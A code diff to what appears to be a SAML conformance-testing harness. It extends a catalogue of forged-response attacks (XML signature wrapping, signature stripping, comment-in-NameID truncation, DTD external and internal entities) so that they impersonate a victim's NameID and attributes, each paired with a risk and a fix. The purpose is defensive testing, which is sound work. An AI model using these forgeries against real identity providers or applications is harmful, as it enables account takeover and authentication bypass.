@@ -21,7 +21,7 @@ from __future__ import annotations
 
 import copy
 import datetime as dt
-from collections.abc import Sequence
+from collections.abc import Mapping, Sequence
 from dataclasses import dataclass, replace
 
 from cryptography import x509
@@ -47,6 +47,8 @@ DS = f"{{{NS_DS}}}"
 HOURS_AWAY = dt.timedelta(hours=3)
 OTHER_SP = "https://other-sp.example"
 EVIL_URL = "https://evil.example/phish"
+#: The attacker's own domain, appended to the victim's address in truncation attacks.
+EVIL_SUFFIX = ".evil.test"
 
 
 @dataclass(frozen=True)
@@ -59,9 +61,23 @@ class Kit:
     rogue: KeyPair
     cloned: KeyPair
     canary_url: str = ""
+    #: Each person's attribute statement (name -> values), as Okta would send it for them.
+    #: A forgery starts from the attacker's genuine response, attributes included, and
+    #: changes NameID *and* attributes to the victim's.
+    victim_attributes: Attributes = ()
+    attacker_attributes: Attributes = ()
 
     @classmethod
-    def create(cls, idp: SamlIdp, *, victim: str, attacker: str, canary_url: str = "") -> Kit:
+    def create(
+        cls,
+        idp: SamlIdp,
+        *,
+        victim: str,
+        attacker: str,
+        canary_url: str = "",
+        victim_attributes: Mapping[str, Sequence[str]] | None = None,
+        attacker_attributes: Mapping[str, Sequence[str]] | None = None,
+    ) -> Kit:
         return cls(
             idp=idp,
             victim=victim,
@@ -69,7 +85,23 @@ class Kit:
             rogue=generate_keypair("oin-conformance attacker"),
             cloned=clone_certificate(idp.keypair),
             canary_url=canary_url,
+            victim_attributes=_attrs(victim_attributes),
+            attacker_attributes=_attrs(attacker_attributes),
         )
+
+    def identity_values(self) -> list[str]:
+        """The victim's values that identify them (NameID, and e-mail-like attributes)."""
+        values = [self.victim]
+        for _, vals in self.victim_attributes:
+            values += [v for v in vals if "@" in v and v not in values]
+        return values
+
+
+Attributes = tuple[tuple[str, tuple[str, ...]], ...]
+
+
+def _attrs(attributes: Mapping[str, Sequence[str]] | None) -> Attributes:
+    return tuple((k, tuple(v)) for k, v in (attributes or {}).items())
 
 
 def clone_certificate(original: KeyPair) -> KeyPair:
@@ -113,12 +145,28 @@ def _own_signature(el: etree._Element) -> etree._Element | None:
     return el.find(DS + "Signature")
 
 
-def _become(el: etree._Element, victim: str) -> None:
-    """Evil values: every NameID under ``el`` names the victim."""
+def _become(el: etree._Element, kit: Kit) -> None:
+    """Evil values: every NameID under ``el`` names the victim, and every attribute the
+    victim has carries the victim's values."""
     for nameid in el.iter(A + "NameID"):
         for child in list(nameid):
             nameid.remove(child)
-        nameid.text = victim
+        nameid.text = kit.victim
+    wanted = dict(kit.victim_attributes)
+    for attr in el.iter(A + "Attribute"):
+        values = wanted.get(attr.get("Name", ""))
+        if values is None:
+            continue
+        old = attr.findall(A + "AttributeValue")
+        for extra in old[len(values) :]:
+            attr.remove(extra)
+        for i, value in enumerate(values):
+            if i < len(old):
+                for child in list(old[i]):
+                    old[i].remove(child)
+                old[i].text = value
+            else:
+                etree.SubElement(attr, A + "AttributeValue").text = value
 
 
 def _unsigned_copy(el: etree._Element) -> etree._Element:
@@ -246,7 +294,7 @@ class StrippedSignature(_Forgery):
             parent = sig.getparent()
             assert parent is not None
             parent.remove(sig)
-        _become(root, kit.victim)
+        _become(root, kit)
         return _dump(root)
 
 
@@ -260,7 +308,7 @@ class TamperedAfterSigning(_Forgery):
 
     def forge(self, xml: bytes, kit: Kit) -> bytes:
         root = _parse(xml)
-        _become(root, kit.victim)
+        _become(root, kit)
         return _dump(root)
 
 
@@ -309,7 +357,7 @@ def _resign(xml: bytes, kit: Kit, key: KeyPair | None, hmac_key: bytes | None = 
         parent = sig.getparent()
         assert parent is not None
         parent.remove(sig)
-    _become(root, kit.victim)
+    _become(root, kit)
     mode = "both" if all(signed.values()) else "response" if signed["response"] else "assertion"
     return sign_response(
         root,
@@ -363,7 +411,7 @@ class CommentInDigestValue(_Forgery):
 
         root = _parse(xml)
         asrt = _assertion(root)
-        _become(asrt, kit.victim)
+        _become(asrt, kit)
         for element in (asrt, root):  # inner signature first: the outer digest covers it
             sig = _own_signature(element)
             if sig is None:
@@ -417,7 +465,7 @@ class XSW1(_Forgery):
         clone = _unsigned_copy(root)
         self._place(root, sig, clone)
         root.set("ID", new_id())
-        _become(_assertion(root), kit.victim)
+        _become(_assertion(root), kit)
         return _dump(root)
 
     def _place(self, root: etree._Element, sig: etree._Element, clone: etree._Element) -> None:
@@ -451,7 +499,7 @@ class XSW3(_Forgery):
         asrt = _assertion(root)
         evil = _unsigned_copy(asrt)
         evil.set("ID", new_id())
-        _become(evil, kit.victim)
+        _become(evil, kit)
         self._place(root, asrt, evil)
         return _dump(root)
 
@@ -495,7 +543,7 @@ class XSW5(_Forgery):
 
     def _evil(self, asrt: etree._Element, kit: Kit) -> None:
         asrt.set("ID", new_id())
-        _become(asrt, kit.victim)
+        _become(asrt, kit)
 
     def _place(
         self,
@@ -533,7 +581,7 @@ class XSW7(XSW3):
         root = _parse(xml)
         asrt = _assertion(root)
         evil = _unsigned_copy(asrt)
-        _become(evil, kit.victim)
+        _become(evil, kit)
         ext = etree.Element(P + "Extensions")
         ext.append(evil)
         asrt.addprevious(ext)
@@ -547,7 +595,7 @@ class XSW8(XSW5):
     attack: str = "xsw8"
 
     def _evil(self, asrt: etree._Element, kit: Kit) -> None:
-        _become(asrt, kit.victim)
+        _become(asrt, kit)
 
     def _place(
         self,
@@ -558,6 +606,37 @@ class XSW8(XSW5):
     ) -> None:
         obj = etree.SubElement(sig, DS + "Object")
         obj.append(original)
+
+
+@dataclass(frozen=True)
+class WithoutResponseSignature(_Forgery):
+    """Okta signed both: the Response's own signature is removed first, so an app that checks
+    only the first signature it finds checks the Assertion's (then the wrapping follows)."""
+
+    attack: str = "without_response_signature"
+    risk: str = XSW1.risk
+    fix: str = XSW1.fix
+
+    @property
+    def needs(self) -> frozenset[str]:
+        return frozenset({"response", "assertion"})
+
+    def forge(self, xml: bytes, kit: Kit) -> bytes:
+        root = _parse(xml)
+        sig = _own_signature(root)
+        if sig is not None:
+            root.remove(sig)
+        return _dump(root)
+
+
+def _unwrapped(inner: Mutator) -> Chain:
+    """``inner`` sent with the outer Response signature removed first (Okta signs both)."""
+    return Chain(
+        parts=(WithoutResponseSignature(), inner),
+        attack=f"{inner.attack}_without_response_signature",
+        risk=inner.risk,
+        fix=inner.fix,
+    )
 
 
 @dataclass(frozen=True)
@@ -573,22 +652,45 @@ class CommentInNameID(_Forgery):
     fix: str = "Read the NameID's full text content (all text nodes), or upgrade the SAML library."
 
     def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
-        return replace(spec, nameid=kit.victim + ".evil.test")
+        # The attacker's own account is ``<victim's address>.evil.test`` (a domain they
+        # own): that is the NameID and every e-mail-like attribute Okta sends for them.
+        own = set(kit.identity_values())
+        victim = dict(kit.victim_attributes)
+        attributes = tuple(
+            (
+                name,
+                tuple(
+                    victim_value + EVIL_SUFFIX if victim_value in own else value
+                    for value, victim_value in zip(values, victim.get(name, values), strict=False)
+                ),
+            )
+            for name, values in spec.attributes
+        )
+        return replace(spec, nameid=kit.victim + EVIL_SUFFIX, attributes=attributes)
 
     def forge(self, xml: bytes, kit: Kit) -> bytes:
         root = _parse(xml)
-        for nameid in root.iter(A + "NameID"):
-            if nameid.text == kit.victim + ".evil.test":
-                nameid.text = kit.victim
+        own = {value + EVIL_SUFFIX: value for value in kit.identity_values()}
+        for el in (*root.iter(A + "NameID"), *root.iter(A + "AttributeValue")):
+            if el.text in own and len(el) == 0:
+                el.text = own[el.text]
                 comment = etree.Comment("")
-                comment.tail = ".evil.test"
-                nameid.append(comment)
+                comment.tail = EVIL_SUFFIX
+                el.append(comment)
         return _dump(root)
 
 
+def _doctype(root: etree._Element, subset: str = "") -> str:
+    name = root.tag.split("}")[-1]
+    qname = f"{root.prefix}:{name}" if root.prefix else name
+    return f"<!DOCTYPE {qname}{f' [{subset}]' if subset else ''}>"
+
+
 @dataclass(frozen=True)
-class DtdExternalEntity(_Forgery):
-    """A DOCTYPE with an external entity pointing at the harness's loopback canary."""
+class DtdExternalEntity(Mutator):
+    """The victim's genuine response behind a DOCTYPE whose external entity points at the
+    harness's loopback canary (referenced in the NameID; the canary answers nothing, so an
+    app that fetches it reads the genuine NameID)."""
 
     attack: str = "dtd_external_entity"
     risk: str = (
@@ -596,18 +698,53 @@ class DtdExternalEntity(_Forgery):
     )
     fix: str = "Parse SAML with DTDs and entity resolution disabled and refuse any DOCTYPE."
 
-    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
-        return replace(spec, nameid=kit.victim)
-
     def forge(self, xml: bytes, kit: Kit) -> bytes:
         root = _parse(xml)
-        name = root.tag.split("}")[-1]
-        prefix = root.prefix or ""
-        qname = f"{prefix}:{name}" if prefix else name
-        doctype = f'<!DOCTYPE {qname} [<!ENTITY oin SYSTEM "{kit.canary_url}">]>'
+        doctype = _doctype(root, f'<!ENTITY oin SYSTEM "{kit.canary_url}">')
         body = _dump(root).decode()
         body = body.replace(f">{kit.victim}</", f">&oin;{kit.victim}</", 1)
         return (doctype + body).encode()
+
+
+@dataclass(frozen=True)
+class DtdInternalEntity(Mutator):
+    """The victim's genuine response behind a DOCTYPE declaring an internal entity that holds
+    the victim's NameID; the NameID element says ``&who;``.
+
+    Only a parser that reads the DTD and expands entities sees the signed content again (and
+    signs the victim in): the same parser expands entity bombs and lets a signature verify
+    text the application never shows.
+    """
+
+    attack: str = "dtd_internal_entity"
+    risk: str = (
+        "The app's XML parser expands DTD entities: entity expansion bombs exhaust it, and "
+        "signed text and read text can differ (entity-based signature bypasses)."
+    )
+    fix: str = DtdExternalEntity.fix
+
+    def forge(self, xml: bytes, kit: Kit) -> bytes:
+        root = _parse(xml)
+        doctype = _doctype(root, f'<!ENTITY who "{kit.victim}">')
+        body = _dump(root).decode()
+        body = body.replace(f">{kit.victim}</", ">&who;</")
+        return (doctype + body).encode()
+
+
+@dataclass(frozen=True)
+class DoctypeOnly(Mutator):
+    """The victim's genuine response behind a bare DOCTYPE (no entities at all)."""
+
+    attack: str = "doctype_only"
+    risk: str = (
+        "The app accepts a DOCTYPE in a SAML response; SAML messages never carry one, and a "
+        "parser that allows it is one setting away from entity expansion and XXE."
+    )
+    fix: str = DtdExternalEntity.fix
+
+    def forge(self, xml: bytes, kit: Kit) -> bytes:
+        root = _parse(xml)
+        return (_doctype(root) + _dump(root).decode()).encode()
 
 
 @dataclass(frozen=True)
@@ -818,8 +955,11 @@ CATALOGUE: tuple[Mutator, ...] = (
     XSW6(),
     XSW7(),
     XSW8(),
+    *(_unwrapped(m) for m in (XSW3(), XSW4(), XSW5(), XSW6(), XSW7(), XSW8())),
     CommentInNameID(),
     DtdExternalEntity(),
+    DtdInternalEntity(),
+    DoctypeOnly(),
     Replay(),
     Expired(),
     NotYetValid(),
@@ -846,11 +986,21 @@ def by_name(name: str) -> Mutator:
     raise KeyError(name)
 
 
+def signed_content(mutator: Mutator, base: ResponseSpec, kit: Kit) -> ResponseSpec:
+    """What the IdP signs for this attack: the attacker's own genuine response (NameID and
+    attributes) for a forgery, the victim's for a validation case, then ``content``."""
+    if mutator.forgery:
+        start = replace(base.fresh(), nameid=kit.attacker)
+        if kit.attacker_attributes:
+            start = replace(start, attributes=kit.attacker_attributes)
+    else:
+        start = replace(base.fresh(), nameid=kit.victim)
+    return mutator.content(start, kit)
+
+
 def apply(mutator: Mutator, base: ResponseSpec, kit: Kit) -> bytes:
     """The hostile response: genuine content for attacker or victim, changed, signed, forged."""
-    who = kit.attacker if mutator.forgery else kit.victim
-    spec = mutator.content(replace(base.fresh(), nameid=who), kit)
-    return mutator.forge(kit.idp.sign(spec), kit)
+    return mutator.forge(kit.idp.sign(signed_content(mutator, base, kit)), kit)
 
 
 def names(mutators: Sequence[Mutator] = CATALOGUE) -> list[str]:
